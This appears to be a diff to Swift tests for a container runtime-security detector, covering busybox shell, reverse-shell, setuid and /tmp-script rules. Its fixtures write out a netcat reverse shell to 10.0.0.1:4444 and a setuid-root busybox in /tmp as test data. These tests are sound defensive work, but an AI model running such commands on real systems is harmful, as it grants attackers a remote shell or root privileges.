@@ -48,11 +48,9 @@ struct ProcessRulesTests {
         "busybox run by its own name as a shell (`busybox sh -c ...`, comm busybox) is a shell",
         .bug(id: "rules-1", "names() looks at comm and argv[0] only; `busybox sh` has both \"busybox\""))
     func busyboxByItsOwnName() {
-        withKnownIssue("`/bin/busybox sh` escapes shell_in_container: its comm and argv[0] are both busybox") {
-            let process = Scenario.process(
-                comm: "busybox", exe: "/bin/busybox", argv: ["/bin/busybox", "sh", "-c", "id"])
-            #expect(Scenario.alerts(process).of(.shellInContainer).count == 1)
-        }
+        let process = Scenario.process(
+            comm: "busybox", exe: "/bin/busybox", argv: ["/bin/busybox", "sh", "-c", "id"])
+        #expect(Scenario.alerts(process).of(.shellInContainer).count == 1)
     }
 
     @Test(
@@ -259,13 +257,11 @@ struct ProcessRulesTests {
         "busybox's nc run by its own name (`busybox nc ... -e /bin/sh`) is a reverse shell",
         .bug(id: "rules-1", "names() ignores argv[1] after busybox"))
     func busyboxNcByItsOwnName() {
-        withKnownIssue("`busybox nc HOST PORT -e /bin/sh` escapes reverse_shell and network_tool_in_container") {
-            let process = Scenario.process(
-                comm: "busybox", exe: "/bin/busybox", argv: ["busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
-            let alerts = Scenario.alerts(process)
-            #expect(alerts.of(.reverseShell).count == 1)
-            #expect(alerts.of(.networkToolInContainer).count == 1)
-        }
+        let process = Scenario.process(
+            comm: "busybox", exe: "/bin/busybox", argv: ["busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
+        let alerts = Scenario.alerts(process)
+        #expect(alerts.of(.reverseShell).count == 1)
+        #expect(alerts.of(.networkToolInContainer).count == 1)
     }
 
     // MARK: privilege_escalation
@@ -277,8 +273,20 @@ struct ProcessRulesTests {
         let alert = try #require(Scenario.alerts(process).of(.privilegeEscalation).first)
         #expect(alert.priority == .critical)
         #expect(alert.field("vigil.escalation") == .string("setuid"))
-        #expect(alert.field("user.euid") == .int(0))
+        #expect(alert.process?.euid == 0)
         #expect(alert.output.contains("uid 1000"))
+    }
+
+    @Test("a setuid program that drops its privileges at once is still seen, from the file's mode bits")
+    func setuidBitsOnFile() throws {
+        var process = Scenario.process(comm: "busybox", exe: "/tmp/busybox", argv: ["/tmp/busybox", "sleep", "2"], uid: 1000, euid: 1000)
+        process.exeFile = FileAttributes(mode: 0o104755, owner: 0, group: 0)
+        let alert = try #require(Scenario.alerts(process).of(.privilegeEscalation).first)
+        #expect(alert.field("vigil.escalation") == .string("setuid"))
+        #expect(alert.output.contains("setuid root"))
+        var plain = process
+        plain.exeFile = FileAttributes(mode: 0o100755, owner: 0, group: 0)
+        #expect(Scenario.alerts(plain).of(.privilegeEscalation).isEmpty)
     }
 
     @Test("root running as root, and a user running as itself, gain nothing")
@@ -456,10 +464,8 @@ struct ProcessRulesTests {
         "`sh -e /tmp/x.sh` (errexit, not code) runs a script from /tmp",
         .bug(id: "rules-4", "scriptArgument treats -e as inline code for shells too"))
     func shellErrexitScript() {
-        withKnownIssue("scriptArgument stops at -e for shells, where -e means errexit") {
-            let process = Scenario.busybox(["sh", "-e", "/tmp/x.sh"])
-            #expect(Scenario.alerts(process).of(.execFromVolatilePath).count == 1)
-        }
+        let process = Scenario.busybox(["sh", "-e", "/tmp/x.sh"])
+        #expect(Scenario.alerts(process).of(.execFromVolatilePath).count == 1)
     }
 
     // MARK: container_drift
